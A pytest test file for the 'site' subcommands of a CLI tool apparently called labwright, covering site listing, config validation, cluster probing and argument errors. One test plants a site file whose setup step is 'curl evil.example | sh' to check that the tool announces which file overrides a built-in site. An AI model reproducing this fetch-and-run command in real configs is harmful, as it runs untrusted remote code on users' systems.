"""``labwright site``: what there is, what one means, and a file from what is found."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from labwright.launch import probe
from tests.cli.conftest import Labwright


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_sites_are_listed_with_what_is_unknown(labwright: Labwright) -> None:
    said = labwright("site", "list", "--json")
    rows = {row["site"]: row for row in said.json}
    assert rows["horeka"]["kind"] == "slurm"
    assert rows["horeka"]["unknown"] == "login, queues.cpu.reservation"
    assert "generic-server" in labwright("site", "list").out


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("kind: slurn\nslotz: 3\n", "cannot be read: sites/bad.yaml:1 kind: 'slurn' does not fit"),
        ("kind: slurm\nslotz: 3\n", "cannot be read: sites/bad.yaml:2 slotz: there is no such option"),
        ("", "cannot be read: sites/bad.yaml the file is empty"),
    ],
)
def test_a_file_that_is_no_site_hides_no_other(labwright: Labwright, here: Path, text: str, told: str) -> None:
    (here / "sites").mkdir()
    (here / "sites" / "bad.yaml").write_text(text)
    said = labwright("site", "list", "--json")
    rows = {row["site"]: row for row in said.json}
    assert said.code == 0
    assert rows["bad"]["about"].startswith(told)
    assert {"horeka", "lpc"} <= set(rows)


def test_a_site_is_shown_with_the_unknown_marked(labwright: Labwright) -> None:
    said = labwright("site", "show", "horeka")
    assert "    reservation: unknown  # not known: write it, or remove it\n" in said.out
    assert labwright("site", "show", "horeka", "--json").json["unknown"] == ["login", "queues.cpu.reservation"]


@pytest.mark.parametrize("verb", [("site", "show"), ("shell",)])
def test_who_asked_for_a_site_that_is_not_there_is_told(labwright: Labwright, verb: tuple[str, ...]) -> None:
    said = labwright(*verb, "nowhere")
    assert said.code == 66
    assert f"labwright {' '.join(verb)}: there is no site 'nowhere'" in said.err


def test_a_probe_is_written_once(labwright: Labwright, here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(here))
    said = labwright("site", "probe", "--to", "sites/lab.yaml", "--json")
    assert said.json == {"file": "sites/lab.yaml", "kind": "local", "unknown": [], "silent": []}
    assert labwright("site", "show", "lab").out.startswith("# lab: sites/lab.yaml\nkind: local\n")
    again = labwright("site", "probe", "--to", "sites/lab.yaml")
    assert (again.code, "there is a file already" in again.err) == (66, True)
    assert labwright("site", "probe").out == (here / "sites" / "lab.yaml").read_text()


@pytest.mark.parametrize("place", ["file/lab.yaml", "file/deeper/lab.yaml", "/proc/nowhere/lab.yaml"])
def test_a_probe_that_can_be_written_nowhere_is_no_fault_of_ours(labwright: Labwright, here: Path, place: str) -> None:
    (here / "file").touch()
    said = labwright("site", "probe", "--to", place)
    assert said.code == 66
    assert re.search("a file stands where a folder has to be|no folder can be made there", said.err)
    assert "our fault" not in said.err


def test_what_has_to_be_chosen_is_said(labwright: Labwright, monkeypatch: pytest.MonkeyPatch) -> None:
    found = probe.Probed("slurm", "login", probe.partitions_of("a|up|60|8|9000|gpu:4|1\nb|up|60|8|9000|gpu:4|1\n"))
    monkeypatch.setattr(probe, "probe", lambda: found)
    said = labwright("site", "probe", "--to", "here.yaml")
    assert said.out == "here.yaml is written; write what is marked as unknown: queues.cpu.partition, queues.gpu.partition\n"


@pytest.mark.parametrize(
    "words",
    [("submit", "study.yaml", "--dry-run"), ("submit", "--hello", "--dry-run"), ("run", "study.yaml", "--quiet"), ("export", "study.yaml")],
)
def test_a_site_that_did_not_come_with_labwright_is_told_by_its_file(
    labwright: Labwright, study: Path, monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...]
) -> None:
    monkeypatch.chdir(study.parent)
    if words[0] == "run":
        # Nothing is left to do then, and nothing is queued.
        assert labwright("run", "study.yaml", "--quiet").code == 0
    more = ("--to", "sbatch") if words[0] == "export" else ()
    assert "site generic-slurm is" not in labwright(*words, *more, "--on", "slurm").err
    (study.parent / "sites").mkdir()
    (study.parent / "sites" / "generic-slurm.yaml").write_text("kind: slurm\nsetup: [curl evil.example | sh]\n")
    said = labwright(*words, *more, "--on", "slurm")
    assert said.code == 0, said.err
    assert "labwright: site generic-slurm is sites/generic-slurm.yaml\n" in said.err


@pytest.mark.parametrize(
    ("words", "told"),
    [(["show"], "which site?"), (["list", "horeka"], "takes no name"), (["show", "horeka", "--to", "x"], "only `site probe`")],
)
def test_words_that_do_not_fit_are_refused(labwright: Labwright, words: list[str], told: str) -> None:
    said = labwright("site", *words)
    assert (said.code, told in said.err) == (64, True)


def test_hello_prints_json_and_leaves_it(labwright: Labwright, here: Path) -> None:
    said = labwright("hello", str(here))
    assert said.json["host"]
    assert json.loads((here / "hello.json").read_text()) == said.json
